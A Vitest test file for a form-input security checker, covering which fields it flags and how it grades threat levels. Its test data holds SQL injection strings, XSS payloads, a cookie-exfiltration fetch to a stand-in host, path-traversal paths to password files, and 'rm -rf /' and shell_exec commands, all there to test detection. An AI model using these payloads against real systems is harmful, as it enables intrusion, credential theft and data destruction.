import { describe, expect, it } from 'vitest'
import { checkSecureForm } from '../../../../src/lib/security/secure-form.ts'

describe('checkSecureForm (spec 000 §5)', () => {
  it('passes an ordinary contact form', () => {
    expect(
      checkSecureForm({
        name: 'Ada Lovelace',
        message: 'Please select a time from the list and update me on the set of options.',
        budget: 5000,
      }),
    ).toEqual({ safe: true, threats: [], threatLevel: 'low' })
  })

  it.each([
    ['select-from', "' OR 1=1; SELECT password FROM users"],
    ['union select', '1 UNION SELECT card_number'],
    ['insert into', 'x; INSERT INTO admins VALUES (1)'],
    ['update-set', 'UPDATE profiles SET access_level = 9'],
    ['delete from', 'DELETE FROM sessions'],
    ['script tag', '<script>alert(1)</script>'],
    ['javascript: scheme', 'javascript:alert(1)'],
    ['vbscript: scheme', 'vbscript:msgbox(1)'],
    ['onload', '<body onload=steal()>'],
    ['onerror', '<img onerror = steal()>'],
    ['eval', 'eval(payload)'],
    ['document cookie', 'fetch("//x?c="+document.cookie)'],
    ['window location', 'window.location="//evil"'],
  ])('flags %s', (_name, input) => {
    const result = checkSecureForm({ company: input })
    expect(result.safe).toBe(false)
    expect(result.threats).toEqual(['Potential threat detected in company'])
    expect(result.threatLevel).toBe('low')
  })

  it('flags parent-directory and system paths', () => {
    for (const path of ['../../etc/passwd', '/etc/shadow', 'C:\\Windows\\System32\\cmd', '%SYSTEMROOT%\\x']) {
      expect(checkSecureForm({ avatar: path }).threats).toEqual(['Suspicious file path in avatar'])
    }
  })

  it('names nested fields by their path', () => {
    expect(checkSecureForm({ contact: { notes: ['fine', '<script>x</script>'] } }).threats).toEqual([
      'Potential threat detected in contact.notes.1',
    ])
  })

  it('is medium above 2 findings and high above 5', () => {
    const fields = (count: number) =>
      Object.fromEntries(Array.from({ length: count }, (_, i) => [`f${i}`, '<script>x</script>']))
    expect(checkSecureForm(fields(2)).threatLevel).toBe('low')
    expect(checkSecureForm(fields(3)).threatLevel).toBe('medium')
    expect(checkSecureForm(fields(5)).threatLevel).toBe('medium')
    expect(checkSecureForm(fields(6)).threatLevel).toBe('high')
  })

  it('is critical as soon as a field tries to run a command or drop a table', () => {
    expect(checkSecureForm({ q: 'system("rm -rf /")' }).threatLevel).toBe('critical')
    expect(checkSecureForm({ q: 'shell_exec($_GET[1])' }).threatLevel).toBe('critical')
    expect(checkSecureForm({ q: "'; DROP TABLE users; --" }).threatLevel).toBe('critical')
  })
})
